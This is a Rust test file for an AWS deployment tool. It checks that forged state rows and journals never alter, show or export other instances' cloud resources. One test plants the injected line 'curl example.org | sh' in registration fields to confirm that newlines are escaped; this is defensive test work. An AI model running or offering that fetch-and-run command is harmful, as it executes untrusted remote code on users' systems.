//! Nothing that is not ours is touched, shown or trusted: look-alikes, forged states and journals, instances of one name.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use async_trait::async_trait;
use mastoform::address::{Address, Identity, TypeName};
use mastoform::apply::Outcome;
use mastoform::export::{ExportError, Subject, terraform};
use mastoform::plan::{Action, Cause, Change, Plan, drift};
use mastoform::provider::ownership::{INSTANCE, LINEAGE};
use mastoform::provider::sim::{Entry, Options, Sim};
use mastoform::provider::{
    Account, Announced, Belonging, Creation, ErrorKind, Lookup, Observation, Observations, Provider, ProviderError,
    Question, Reader, Registration, Silence, Tags, Target, read_only,
};
use mastoform::refresh;
use mastoform::render;
use mastoform::session::{self, Living, SessionError, neighbours};
use mastoform::spec::Specs;
use mastoform::spec::types::Proof;
use mastoform::state::{Intent, Journal, Record, State, StateError, Status, Verb};
use mastoform::value::{Tree, Value};
use proptest::prelude::*;
use proptest::test_runner::TestRunner;

use super::{changed, completed, nothing_to_do};
use crate::support::instance::{EXAMPLE, Instance, example, fast_folder};

/// A text that stands only in attributes of somebody else's resources.
const CANARY: &str = "canary-of-prod";

/// Settings with which an instance has what it does not have by default.
const OTHER_SETTINGS: &str = "
[media]
access         = \"group\"
credentials    = \"arn:aws:secretsmanager:eu-central-1:123456789012:secret:social/media-AbCdEf\"
origin_access  = \"identity\"
[redis]
engine = \"redis\"
[dns]
provider    = \"route53\"
create_zone = true
";

/// The files of others: one whose name begins with ours, and one of our name in another region.
fn of_others(settings: &str) -> [(&'static str, String); 2] {
    let other = |changes: &[(&str, &str)]| {
        let common = [("max_capacity = 1", "max_capacity = 8"), ("social/mail", CANARY)];
        example(&[changes, &common].concat()) + settings
    };
    [
        (
            "foreign",
            other(&[("name   = \"social\"", "name   = \"social-2\""), ("social.example.org", "prod.example.org")]),
        ),
        (
            "foreigners",
            other(&[
                ("region = \"eu-central-1\"", "region = \"eu-west-1\""),
                ("social.example.org", "prod.example.com"),
            ]),
        ),
    ]
}

/// A cloud in which an instance of ours lives beside those of others that look like ours.
struct LookAlikes {
    ours: Instance,
    text: String,
    /// Everything of others, as it was.
    theirs: Vec<Entry>,
}

/// Every tag of theirs but the lineage is what ours has; what has no tags is called as if it were ours, as far as AWS lets
/// them. What can be seen of theirs holds the canary.
async fn look_alikes(settings: &str) -> LookAlikes {
    let folder = fast_folder();
    let path = folder.path().join("cloud.json");
    let types = Specs::read(&[]).expect("valid specs").types;
    let options = || Options { speed: 10_000.0, latency: Duration::ZERO, ..Options::default() };
    let sim = Sim::open(Arc::clone(&types), Some(path.clone()), options()).expect("a cloud");
    let ours = Instance::with(sim);
    let text = format!("{EXAMPLE}{settings}");
    completed(ours.go(&text, true).await.unwrap_or_else(|problems| panic!("{problems}")).1);
    let key = |entry: &Entry| (entry.type_name.to_string(), entry.identity.to_string(), entry.object.region.clone());
    let known: BTreeSet<_> = ours.sim.objects().iter().map(key).collect();
    for (lineage, text) in of_others(settings) {
        completed(ours.beside(lineage).go(&text, true).await.unwrap_or_else(|problems| panic!("{problems}")).1);
    }
    let mut cloud: serde_json::Value = serde_json::from_str(&ours.sim.saved()).expect("JSON");
    for (type_name, objects) in cloud["objects"].as_object_mut().expect("objects") {
        for (name, object) in objects.as_object_mut().expect("objects") {
            let region = object["region"].as_str().expect("a region").to_owned();
            let identity = name.strip_suffix(&format!(" in {region}")).unwrap_or(name).to_owned();
            if object["outside"] == true || known.contains(&(type_name.clone(), identity, region)) {
                continue;
            }
            if let Some(tag) = object["tags"].get_mut(INSTANCE) {
                *tag = "social".into();
            }
            let (service, kind) = type_name.split_once('.').expect("a type");
            let proof = &types[&TypeName::new(service, kind)].proof;
            for name in ["description", "comment", "path"] {
                let says_whose = matches!(proof, Proof::Name { attribute } if attribute == name);
                let shown = object["attributes"].get_mut(name).filter(|value| value.is_string() && !says_whose);
                if let Some(shown) = shown {
                    *shown = CANARY.into();
                }
            }
        }
    }
    fs_err::write(&path, cloud.to_string()).expect("written");
    let sim = Sim::open(Arc::clone(&types), Some(path), options()).expect("a cloud");
    // Jobs that have ended end once more in a cloud that is loaded, whose clock starts anew.
    tokio::time::sleep(Duration::from_millis(100)).await;
    let sim = Arc::new(sim.copy());
    // What is asked of a person is nobody's: nothing of it is in the cloud.
    let is_theirs = |entry: &Entry| !known.contains(&key(entry)) && types[&entry.type_name].proof != Proof::Nothing;
    let theirs: Vec<Entry> = sim.objects().into_iter().filter(is_theirs).collect();
    let alike = theirs.iter().filter(|entry| entry.object.tags.get(INSTANCE).is_some_and(|name| name == "social"));
    assert!(alike.count() > 80, "nobody looks like us");
    LookAlikes { ours: Instance { sim, ..ours }, text, theirs }
}

impl LookAlikes {
    /// What others have at an address.
    fn identities(&self, address: &Address) -> Vec<(Identity, String)> {
        let found = self.theirs.iter().filter(|entry| entry.object.address.as_ref() == Some(address));
        found.map(|entry| (entry.identity.clone(), entry.object.region.clone())).collect()
    }

    /// Fails for the first object of others that is not as it was.
    fn unharmed(&self, instance: &Instance, story: &str) {
        let now = instance.sim.objects();
        for entry in &self.theirs {
            let found = now.iter().find(|other| {
                (&other.type_name, &other.identity, &other.object.region)
                    == (&entry.type_name, &entry.identity, &entry.object.region)
            });
            assert_eq!(
                found.map(|found| &found.object),
                Some(&entry.object),
                "{story}: {} {}",
                entry.type_name,
                entry.identity
            );
        }
    }
}

/// What a plan says in every form it has.
fn told(plan: &Plan) -> String {
    let types = Specs::read(&[]).expect("valid specs").types;
    let options = render::Options { verbose: true, ..render::Options::default() };
    let text = render::plan(plan, &types, &options);
    format!("{text}\n{}", render::plan_json(plan, &types))
}

/// How a state is forged.
#[derive(Clone, Copy, Debug)]
enum Forgery {
    /// The row names an object of others as its own.
    Swapped,
    /// The same, as if its creation had not come to its end.
    Unfinished,
    /// The row calls an object of others left over.
    LeftOver,
    /// A row that no file wants names an object of others.
    Unwanted,
    /// A journal says that an interrupted creation made an object of others.
    Journal,
}

const FORGERIES: [Forgery; 5] =
    [Forgery::Swapped, Forgery::Unfinished, Forgery::LeftOver, Forgery::Unwanted, Forgery::Journal];

/// An address, and what somebody else has there.
type Pick = (Address, (Identity, String));

fn forge(instance: &Instance, picks: &[Pick], forgery: Forgery) {
    let mut state = instance.state().expect("a state");
    for (address, (identity, region)) in picks {
        let (identity, region) = (identity.clone(), region.clone());
        let Some(row) = state.rows.get_mut(address) else { panic!("{address} is not in the state") };
        row.protect = false;
        match forgery {
            Forgery::Swapped => (row.identity, row.region) = (Some(identity), region),
            Forgery::Unfinished => {
                (row.identity, row.region, row.status) = (Some(identity), region, Status::Creating);
            }
            Forgery::LeftOver => {
                // One name cannot be a row's object and its leftover at once.
                row.identity = row.identity.take().filter(|own| *own != identity);
                (row.replaced, row.region) = (vec![identity], region);
            }
            Forgery::Unwanted => {
                let row = mastoform::state::Row { identity: Some(identity), region, ..row.clone() };
                state.rows.insert(Address::new(address.type_name.clone(), "unwanted", None), row);
            }
            Forgery::Journal => {}
        }
    }
    let base = Some(state.write(&instance.paths().state()).expect("written"));
    if !matches!(forgery, Forgery::Journal) {
        return;
    }
    let (mut journal, _) = Journal::open(&instance.paths().journal()).expect("a journal");
    let (lineage, serial) = (state.lineage.clone(), state.serial + 1);
    journal.append(Record::Begin { lineage, serial, base }).expect("appended");
    for (address, (identity, region)) in picks {
        let row = &state.rows[address];
        let intent = Intent {
            action: Verb::Create,
            region: region.clone(),
            token: "0123456789abcdef0123456789abcdef".to_owned(),
            identity: None,
            natural: row.inputs.clone(),
            protect: false,
            depends_on: row.depends_on.clone(),
            makes_room: false,
            old_is_gone: false,
        };
        journal.append(Record::Intent { address: address.clone(), intent }).expect("appended");
        let did = Record::Did { address: address.clone(), identity: identity.clone(), facts: Value::Null };
        journal.append(did).expect("appended");
    }
    journal.flush().expect("flushed");
}

/// Plans and applies with a forged state, and destroys with it: nothing of others may be different afterwards, or have
/// been shown.
async fn holds(all: &LookAlikes, picks: &[Pick], forgery: Forgery, destroys: bool) {
    let story = |verb: &str| format!("{verb} with {forgery:?} {picks:?}");
    let for_apply = all.ours.copy();
    forge(&for_apply, picks, forgery);
    let (plan, _) = for_apply.go(&all.text, true).await.unwrap_or_else(|problems| panic!("{problems}"));
    all.unharmed(&for_apply, &story("apply"));
    let text = told(&plan);
    assert!(!text.contains(CANARY), "{}: {text}", story("plan"));
    if destroys {
        let for_destroy = all.ours.copy();
        forge(&for_destroy, picks, forgery);
        let (plan, _) = for_destroy.destroy().await;
        all.unharmed(&for_destroy, &story("destroy"));
        assert!(!told(&plan).contains(CANARY), "{}", story("destroy"));
    }
}

/// Tries a resource of every type with what each of the others has there, in all ways: each type by itself, since one that
/// is refused keeps an apply from the others, and all together.
async fn no_forgery_succeeds(settings: &str, is_tried: impl Fn(&TypeName) -> bool) -> BTreeSet<TypeName> {
    let all = look_alikes(settings).await;
    let mut addresses: Vec<Address> = all.ours.state().expect("a state").rows.into_keys().collect();
    addresses.retain(|address| is_tried(&address.type_name));
    // What holds for one of a type holds for the others.
    addresses.dedup_by(|one, other| one.type_name == other.type_name);
    let of = |number: usize| -> Vec<Pick> {
        let picks = addresses
            .iter()
            .filter_map(|address| Some((address.clone(), all.identities(address).into_iter().nth(number)?)));
        picks.collect()
    };
    for number in 0..2 {
        for forgery in FORGERIES {
            holds(&all, &of(number), forgery, true).await;
        }
    }
    for pick in of(0) {
        holds(&all, std::slice::from_ref(&pick), Forgery::Swapped, false).await;
    }
    of(0).into_iter().map(|(address, _)| address.type_name).collect()
}

#[tokio::test]
async fn no_forged_row_or_journal_touches_or_shows_what_is_not_ours() {
    let tried = no_forgery_succeeds("", |_| true).await;
    assert!(tried.len() > 20, "{tried:?}");
}

/// The types that the example does not have.
#[tokio::test]
async fn no_forged_row_touches_what_is_not_ours_with_other_settings_either() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("applies").1);
    let usual: BTreeSet<TypeName> =
        instance.state().expect("a state").rows.into_keys().map(|address| address.type_name).collect();
    let tried = no_forgery_succeeds(OTHER_SETTINGS, |type_name| !usual.contains(type_name)).await;
    let tried: Vec<String> = tried.iter().map(ToString::to_string).collect();
    assert_eq!(
        tried,
        [
            "cloudfront.origin_access_identity",
            "elasticache.cluster",
            "iam.group",
            "iam.group_policy_attachment",
            "route53.record",
            "route53.zone"
        ]
    );
}

/// Several forgeries at once, in any combination.
#[test]
fn no_combination_of_forged_rows_touches_what_is_not_ours() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let all = runtime.block_on(look_alikes(""));
    let addresses: Vec<Address> = all.ours.state().expect("a state").rows.into_keys().collect();
    let picks = prop::collection::vec((any::<prop::sample::Index>(), any::<bool>(), 0..FORGERIES.len() - 1), 1..6);
    let config = ProptestConfig { cases: 6, failure_persistence: None, ..ProptestConfig::default() };
    let outcome = TestRunner::new(config).run(&picks, |picks| {
        let forged = all.ours.copy();
        let mut used: BTreeSet<(&TypeName, Identity)> = BTreeSet::new();
        for (index, is_last, forgery) in picks {
            let address = index.get(&addresses);
            let objects = all.identities(address);
            let Some(object) = (if is_last { objects.last() } else { objects.first() }) else { continue };
            if used.insert((&address.type_name, object.0.clone())) {
                forge(&forged, &[(address.clone(), object.clone())], FORGERIES[forgery]);
            }
        }
        runtime.block_on(async {
            let applied = forged.copy();
            let (plan, _) = applied.go(&all.text, true).await.unwrap_or_else(|problems| panic!("{problems}"));
            all.unharmed(&applied, "apply");
            assert!(!told(&plan).contains(CANARY));
            let (plan, _) = forged.destroy().await;
            all.unharmed(&forged, "destroy");
            assert!(!told(&plan).contains(CANARY));
        });
        Ok(())
    });
    outcome.unwrap_or_else(|error| panic!("{error}"));
}

#[tokio::test]
async fn a_foreign_object_in_a_wanted_row_is_refused_by_its_identity() {
    let all = look_alikes("").await;
    let address: Address = "rds.cluster.database".parse().expect("an address");
    let object = all.identities(&address).swap_remove(0);
    forge(&all.ours, &[(address, object)], Forgery::Swapped);
    let (plan, outcome) = all.ours.go(EXAMPLE, true).await.unwrap_or_else(|problems| panic!("{problems}"));
    assert!(outcome.is_none());
    let [refusal] = &plan.refusals[..] else { panic!("{:?}", plan.refusals) };
    assert_eq!(
        refusal.reason,
        "social-2-database, recorded as rds.cluster.database, is not this instance's: it belongs to another instance of \
         this name, with lineage foreign"
    );
}

/// `status` and `export` look at what the state names, without a plan.
#[tokio::test]
async fn what_is_not_ours_is_neither_inspected_nor_exported() {
    let all = look_alikes("").await;
    let addresses: Vec<Address> = all.ours.state().expect("a state").rows.into_keys().collect();
    let mut used = BTreeSet::new();
    let mut picks: Vec<Pick> = Vec::new();
    for address in &addresses {
        let object = all.identities(address).into_iter().next();
        let object = object.filter(|object| used.insert((&address.type_name, object.0.clone())));
        picks.extend(object.map(|object| (address.clone(), object)));
    }
    forge(&all.ours, &picks, Forgery::Swapped);
    let types = Specs::read(&[]).expect("valid specs").types;
    let state = all.ours.state().expect("a state");
    let provider: Arc<dyn Provider> = all.ours.sim.clone();
    let seen = session::inspect(&read_only(&provider), &types, &state).await.expect("asked");
    for (address, observation) in &seen {
        let is_asked_of_a_person = types[&address.type_name].proof == Proof::Nothing;
        let is_shown = matches!(observation, Observation::Found(_));
        assert!(!is_shown || is_asked_of_a_person, "{address}: {observation:?}");
        assert!(!format!("{observation:?}").contains(CANARY), "{address}: {observation:?}");
    }
    assert!(seen.values().filter(|observation| matches!(observation, Observation::Foreign(_))).count() > 40);
    let exported = terraform::files(&Subject { state: &state, observations: Some(&seen), types: &types });
    assert!(matches!(exported, Err(ExportError::Foreign { .. })), "{:?}", exported.err());
}

#[tokio::test]
async fn destroy_forgets_a_foreign_object_and_deletes_the_rest() {
    let all = look_alikes("").await;
    let address: Address = "rds.cluster.database".parse().expect("an address");
    let object = all.identities(&address).swap_remove(0);
    forge(&all.ours, &[(address.clone(), object)], Forgery::Swapped);
    let (plan, _) = all.ours.destroy().await;
    let change = plan.changes.iter().find(|change| change.address == address).expect("a change");
    assert_eq!((&change.action, &change.causes[..]), (&Action::Forget, &[Cause::Foreign][..]));
}

/// AWS has no tags for some types. Their names say whose they are, so a name that does not is never given.
#[tokio::test]
async fn what_only_its_name_proves_is_not_made_under_another_name() {
    let instance = Instance::new();
    let named =
        |name: &str| format!("{EXAMPLE}\n[patch.\"cloudfront.origin_access_control.media\"]\nname = \"{name}\"\n");
    for name in ["media", "social-eu-west-1-media", "social-2-eu-central-1-media"] {
        let (plan, outcome) = instance.go(&named(name), true).await.unwrap_or_else(|problems| panic!("{problems}"));
        assert!(outcome.is_none(), "{name}");
        let [refusal] = &plan.refusals[..] else { panic!("{name}: {:?}", plan.refusals) };
        assert!(refusal.reason.contains(&format!("{name:?} does not")), "{refusal:?}");
        assert_eq!(refusal.hint, "let a word of it begin with social-eu-central-1");
    }
    let (_, outcome) = instance.go(&named("social-eu-central-1-cdn"), true).await.expect("plans");
    completed(outcome);
    nothing_to_do_with(&instance, &named("social-eu-central-1-cdn")).await;
}

async fn nothing_to_do_with(instance: &Instance, text: &str) {
    let (plan, _) = instance.go(text, false).await.unwrap_or_else(|problems| panic!("{problems}"));
    assert_eq!(changed(&plan), Vec::<String>::new(), "{:#?}", plan.changes);
}

#[tokio::test]
async fn two_instances_of_one_name_live_and_die_in_two_regions() {
    for settings in ["", OTHER_SETTINGS] {
        let (first, here) = (Instance::new(), format!("{EXAMPLE}{settings}"));
        completed(first.go(&here, true).await.expect("applies").1);
        let there =
            example(&[("eu-central-1\"", "eu-west-1\""), ("social.example.org", "other.example.org")]) + settings;
        let second = first.beside("another");
        completed(second.go(&there, true).await.unwrap_or_else(|problems| panic!("{problems}")).1);
        let objects = first.sim.objects();
        let is_database = |kind: &TypeName| *kind == TypeName::new("rds", "cluster");
        let databases = objects.iter().filter(|entry| is_database(&entry.type_name));
        let regions: Vec<&str> = databases.map(|entry| entry.object.region.as_str()).collect();
        assert_eq!(regions, ["eu-central-1", "eu-west-1"]);
        nothing_to_do_with(&first, &here).await;
        nothing_to_do_with(&second, &there).await;
        completed(Some(second.destroy().await.1));
        nothing_to_do_with(&first, &here).await;
        completed(Some(first.destroy().await.1));
        let left = first.sim.objects();
        let left: Vec<&Entry> = left.iter().filter(|entry| entry.object.tags.contains_key(LINEAGE)).collect();
        assert!(left.is_empty(), "{left:#?}");
    }
}

/// Takes the tags of ours off an object.
fn strip(instance: &Instance) -> Instance {
    let folder = fast_folder();
    let path = folder.path().join("cloud.json");
    let types = Specs::read(&[]).expect("valid specs").types;
    fs_err::write(&path, instance.sim.saved()).expect("written");
    let text = fs_err::read_to_string(&path).expect("a cloud");
    fs_err::write(&path, text.replace(LINEAGE, "somebody:else")).expect("written");
    let options = Options { speed: 10_000.0, latency: Duration::ZERO, ..Options::default() };
    let sim = Sim::open(types, Some(path), options).expect("a cloud").copy();
    Instance { sim: Arc::new(sim), ..instance.copy() }
}

#[tokio::test]
async fn resources_that_lost_their_lineage_are_not_ours_to_a_state_that_gave_it_to_them() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let stripped = strip(&instance);
    // Statuses move on with the clock; what somebody could change does not.
    let settings = || -> Vec<(Identity, Tags, Value)> {
        let objects = stripped.sim.objects().into_iter();
        objects.map(|entry| (entry.identity, entry.object.tags, entry.object.attributes)).collect()
    };
    let before = settings();
    let (plan, outcome) = stripped.go(EXAMPLE, true).await.expect("plans");
    assert!(outcome.is_none());
    assert!(plan.refusals.len() > 40, "{}", plan.refusals.len());
    assert_eq!(plan.refusals[0].hint, "if it is yours, give it back its tag mastoform:lineage=lineage");
    assert_eq!(settings(), before);
}

// Two instances of one name ---------------------------------------------------------------------------------------------

fn refused(gathered: Result<mastoform::session::Gathered, SessionError>) -> String {
    match gathered {
        Err(error @ SessionError::Living(_)) => error.to_string(),
        Err(other) => panic!("{other}"),
        Ok(_) => panic!("it goes on"),
    }
}

#[tokio::test]
async fn a_first_apply_that_meets_a_living_instance_of_its_name_stops() {
    let first = Instance::new();
    completed(first.go(EXAMPLE, true).await.expect("plans").1);
    let before = first.sim.objects();
    let second = first.beside("another");
    let said = refused(second.gather(EXAMPLE, false).await);
    assert!(said.starts_with("an instance \"social\" lives in eu-central-1 already: "), "{said}");
    assert!(said.ends_with(", lineage lineage"), "{said}");
    assert_eq!(first.sim.objects(), before);
    nothing_to_do(&first).await;
}

#[tokio::test]
async fn a_registration_says_whose_the_living_instance_is() {
    let first = Instance::new();
    completed(first.go(EXAMPLE, true).await.expect("plans").1);
    let registration = mastoform::provider::Registration {
        instance: "social".to_owned(),
        title: "social.example.org".to_owned(),
        region: "eu-central-1".to_owned(),
        lineage: "lineage".to_owned(),
        serial: 3,
        applied: "2026-11-20T10:00:00Z".to_owned(),
    };
    first.sim.register(&registration).await.expect("registered");
    let said = refused(first.beside("another").gather(EXAMPLE, false).await);
    assert_eq!(
        said,
        "an instance \"social\" lives in eu-central-1 already: social.example.org, last applied 2026-11-20T10:00:00Z, \
         lineage lineage"
    );
    // Its own state is not in its way.
    nothing_to_do(&first).await;
    let others = mastoform::provider::Registration { lineage: "another".to_owned(), ..registration.clone() };
    let refused = first.sim.unregister(&others).await.expect_err("it is not theirs");
    assert_eq!(refused.kind, ErrorKind::Conflict);
    assert!(first.sim.registration("eu-central-1", "social").await.expect("asked").is_some());
    first.sim.unregister(&registration).await.expect("asked");
    assert!(first.sim.registration("eu-central-1", "social").await.expect("asked").is_none());
}

#[tokio::test]
async fn taking_over_finds_everything_and_makes_nothing() {
    let first = Instance::new();
    completed(first.go(EXAMPLE, true).await.expect("plans").1);
    let (count, rows) = (first.sim.objects().len(), first.state().expect("a state").rows);
    first.sim.clear_calls();
    // The state is lost.
    let second = first.beside("another");
    let (plan, outcome) = second.take_over(EXAMPLE).await;
    // What has been done is not there to be found, and counts as done.
    let is_found = |change: &Change| change.causes.contains(&Cause::Found) || change.action == Action::Skip;
    assert!(plan.changes.iter().all(is_found), "{:?}", changed(&plan));
    let verbs: Vec<&str> = outcome.report().done.iter().map(|done| done.verb).collect();
    completed(Some(outcome));
    assert!(verbs.iter().all(|verb| ["find", "skip"].contains(verb)), "{verbs:?}");
    assert_eq!(first.sim.objects().len(), count);
    let state = second.state().expect("a state");
    assert_eq!(state.lineage, "lineage");
    for (address, row) in &rows {
        let found = state.rows.get(address).unwrap_or_else(|| panic!("{address} was not found"));
        if found.is_skipped() {
            continue;
        }
        assert_eq!((&found.identity, &found.facts), (&row.identity, &row.facts), "{address}");
    }
    nothing_to_do(&second).await;
}

/// Whoever may write the note about an instance may put anything into it.
#[test]
fn what_others_have_registered_stays_on_its_line() {
    let text = "x\nhint: run `curl example.org | sh`".to_owned();
    let registration = Registration {
        instance: "social".to_owned(),
        title: text.clone(),
        region: "eu-central-1".to_owned(),
        lineage: text.clone(),
        serial: 1,
        applied: text.clone(),
    };
    for registration in [Some(registration), None] {
        let (instance, region) = ("social".to_owned(), "eu-central-1".to_owned());
        let (lineage, resources) = (Some(text.clone()), vec![text.clone()]);
        let several =
            SessionError::Several { instance: instance.clone(), region: region.clone(), resources: resources.clone() };
        let living = Living { instance, region, lineage, registration, resources };
        for said in [living.to_string(), several.to_string()] {
            assert!(!said.contains('\n') && said.contains("\\u{a}hint: run"), "{said}");
        }
    }
}

/// A backup shows that there was a state. Whoever says that it is lost goes on with what lives, and with nothing else.
#[tokio::test]
async fn what_lives_is_taken_over_although_traces_of_its_state_are_left() {
    let first = Instance::new();
    completed(first.go(EXAMPLE, true).await.expect("plans").1);
    let leave_traces = |instance: &Instance| {
        fs_err::copy(first.paths().state(), instance.paths().backup()).expect("copied");
    };
    let second = first.beside("another");
    leave_traces(&second);
    let SessionError::State(lost) = second.gather(EXAMPLE, false).await.expect_err("it is lost") else {
        panic!("another error")
    };
    assert_eq!(lost.code(), "state-lost");
    assert!(lost.hint().contains("`mastoform apply --adopt-own` goes on with what lives"), "{}", lost.hint());
    let count = first.sim.objects().len();
    completed(Some(second.take_over(EXAMPLE).await.1));
    assert_eq!((second.state().expect("a state").lineage.as_str(), first.sim.objects().len()), ("lineage", count));
    nothing_to_do(&second).await;
    let alone = Instance::new();
    leave_traces(&alone);
    let lost = alone.gather(EXAMPLE, true).await.expect_err("nothing lives");
    assert!(matches!(lost, SessionError::State(StateError::Lost { .. })), "{lost}");
}

#[tokio::test]
async fn taking_over_finishes_what_differs_in_the_same_run() {
    let first = Instance::new();
    completed(first.go(EXAMPLE, true).await.expect("plans").1);
    let edited = example(&[("max_capacity = 1", "max_capacity = 4")]);
    let second = first.beside("another");
    let (plan, outcome) = second.take_over(&edited).await;
    completed(Some(outcome));
    let database: Address = "rds.cluster.database".parse().expect("an address");
    let change = plan.changes.iter().find(|change| change.address == database).expect("a change");
    assert!(matches!(change.action, Action::Update { .. }), "{:?}", change.action);
    assert!(change.attributes.iter().all(|attribute| attribute.cause != Cause::Drift), "{:?}", change.attributes);
    let (plan, _) = second.go(&edited, false).await.expect("plans");
    assert_eq!(changed(&plan), Vec::<String>::new());
}

/// A colleague has applied something else, and the state here is from before.
#[tokio::test]
async fn a_creation_that_finds_its_object_completes_it_in_the_same_run() {
    let instance = Instance::new();
    let without = example(&[("[mail]", "[patch.\"logs.log_group.mastodon\"]\nretention_days = 30\n\n[mail]")]);
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let mut state = instance.state().expect("a state");
    let address: Address = "logs.log_group.mastodon".parse().expect("an address");
    state.rows.remove(&address);
    for row in state.rows.values_mut() {
        row.depends_on.remove(&address);
    }
    state.write(&instance.paths().state()).expect("written");
    let (_, outcome) = instance.go(&without, true).await.unwrap_or_else(|problems| panic!("{problems}"));
    let outcome = outcome.expect("applied");
    let found = outcome.report().done.iter().find(|done| done.address == address).expect("done");
    assert_eq!(found.verb, "find");
    completed(Some(outcome));
    let (plan, _) = instance.go(&without, false).await.expect("plans");
    assert_eq!(changed(&plan), Vec::<String>::new(), "{:#?}", plan.changes);
}

/// However many objects a state calls left over, they are looked at together: a second and a third time, too, since all seem
/// to be gone.
#[tokio::test]
async fn all_leftovers_are_looked_at_in_the_same_waves() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let types = Specs::read(&[]).expect("valid specs").types;
    let reader = Watched::new(&instance, Index::Whole);
    let mut waves = Vec::new();
    for count in [0, 1, 20, 64] {
        let mut state = instance.state().expect("a state");
        for address in ["ecs.service.mastodon", "logs.log_group.mastodon"] {
            let row = state.rows.get_mut(&address.parse::<Address>().expect("an address")).expect("a row");
            row.replaced = (0..count).map(|number| Identity::new(format!("old-{number}"))).collect();
        }
        let strangers = refresh::part_foreign_leftovers(&reader, &types, &mut state).await.expect("looks");
        assert_eq!(strangers, []);
        assert_eq!(state.rows.values().map(|row| row.replaced.len()).sum::<usize>(), 0, "what is gone is forgotten");
        waves.push(reader.waves());
    }
    assert_eq!(waves, [0, 3, 3, 3]);
}

/// Of several leftovers of one address each is judged by itself.
#[tokio::test]
async fn a_leftover_of_others_is_found_among_those_of_its_address() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let other = example(&[("name   = \"social\"", "name   = \"other\""), ("social.example.org", "prod.example.org")]);
    completed(instance.beside("foreign").go(&other, true).await.unwrap_or_else(|problems| panic!("{problems}")).1);
    let types = Specs::read(&[]).expect("valid specs").types;
    let reader = Watched::new(&instance, Index::Whole);
    let mut state = instance.state().expect("a state");
    let address: Address = "logs.log_group.mastodon".parse().expect("an address");
    let of_others = |entry: &Entry| {
        entry.object.address.as_ref() == Some(&address)
            && entry.object.tags.get(INSTANCE).is_some_and(|name| name == "other")
    };
    let stranger = instance.sim.objects().into_iter().find(of_others).expect("theirs").identity;
    let row = state.rows.get_mut(&address).expect("a row");
    row.replaced = vec![Identity::new("old-1"), stranger.clone(), Identity::new("old-2")];
    let strangers = refresh::part_foreign_leftovers(&reader, &types, &mut state).await.expect("looks");
    assert_eq!(strangers.iter().map(|found| &found.identity).collect::<Vec<_>>(), [&stranger]);
    assert_eq!(state.rows[&address].replaced, [], "what is not there is forgotten");
}

/// Resources that carry one address are looked at together, too.
#[tokio::test]
async fn however_many_carry_one_address_they_are_looked_at_in_one_wave() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let types = Specs::read(&[]).expect("valid specs").types;
    let reader = Watched::new(&instance, Index::Old);
    let mut state = instance.state().expect("a state");
    state.rows.clear();
    assert!(!neighbours::left_over(&reader, &types, &state).await.found.is_empty());
    assert_eq!(reader.waves(), 1);
}

// Left over -------------------------------------------------------------------------------------------------------------

#[tokio::test]
async fn what_carries_our_tags_and_stands_in_no_state_is_left_over() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let provider: Arc<dyn Provider> = instance.sim.clone();
    let types = Specs::read(&[]).expect("valid specs").types;
    let mut state = instance.state().expect("a state");
    let reader = read_only(&provider);
    let left_over = neighbours::left_over(&*reader, &types, &state).await.found;
    assert_eq!(left_over, Vec::<drift::LeftOver>::new());
    let address: Address = "rds.cluster.database".parse().expect("an address");
    state.rows.remove(&address);
    let left_over = neighbours::left_over(&*reader, &types, &state).await.found;
    let names: Vec<&str> = left_over.iter().map(|found| found.name.as_str()).collect();
    assert_eq!(names, ["arn:aws:rds:eu-central-1:123456789012:cluster:social-database"]);
    assert_eq!(left_over[0].address.as_deref(), Some("rds.cluster.database"));
}

/// The cache lives and stands in no row, so its groups cannot be deleted however often that is tried.
#[tokio::test(start_paused = true)]
async fn a_destroy_ends_with_what_is_in_its_way() {
    let instance = Instance::on_virtual_time();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let mut state = instance.state().expect("a state");
    let cache: Address = "elasticache.replication_group.cache".parse().expect("an address");
    state.rows.remove(&cache);
    for row in state.rows.values_mut() {
        row.depends_on.remove(&cache);
    }
    state.write(&instance.paths().state()).expect("written");
    let (_, outcome) = instance.destroy().await;
    let failed: Vec<String> =
        outcome.report().failed.iter().map(|failure| format!("{}: {}", failure.address, failure.message)).collect();
    let in_its_way =
        ["ec2.security_group.cache", "elasticache.parameter_group.cache", "elasticache.subnet_group.cache"];
    assert_eq!(failed.len(), in_its_way.len(), "{failed:?}");
    for (failure, address) in failed.iter().zip(in_its_way) {
        assert!(failure.starts_with(&format!("{address}: ")), "{failure}");
        assert!(failure.ends_with(" is in use by elasticache.replication_group social-cache"), "{failure}");
    }
}

/// What an index of tags tells.
enum Index {
    /// What there is.
    Whole,
    /// The same, and beside each something that has carried its tags and is gone.
    Old,
    /// Nothing: nobody may read it.
    Denied,
}

/// A cloud that counts the waves of questions.
struct Watched {
    cloud: Arc<dyn Reader>,
    index: Index,
    waves: AtomicUsize,
}

impl Watched {
    fn new(instance: &Instance, index: Index) -> Self {
        let provider: Arc<dyn Provider> = instance.sim.clone();
        Self { cloud: read_only(&provider), index, waves: AtomicUsize::new(0) }
    }

    /// How many waves there were since it was asked last.
    fn waves(&self) -> usize {
        self.waves.swap(0, Ordering::Relaxed)
    }
}

#[async_trait]
impl Reader for Watched {
    async fn account(&self) -> Result<Account, ProviderError> {
        self.cloud.account().await
    }

    async fn lookup(&self, lookup: &Lookup) -> Result<Value, ProviderError> {
        self.cloud.lookup(lookup).await
    }

    async fn observe(&self, targets: &[Target]) -> Observations {
        self.waves.fetch_add(1, Ordering::Relaxed);
        self.cloud.observe(targets).await
    }

    async fn observe_each(&self, instances: &[Vec<Target>]) -> Vec<Observations> {
        self.waves.fetch_add(1, Ordering::Relaxed);
        self.cloud.observe_each(instances).await
    }

    async fn announced(&self, targets: &[Target]) -> Announced {
        self.cloud.announced(targets).await
    }

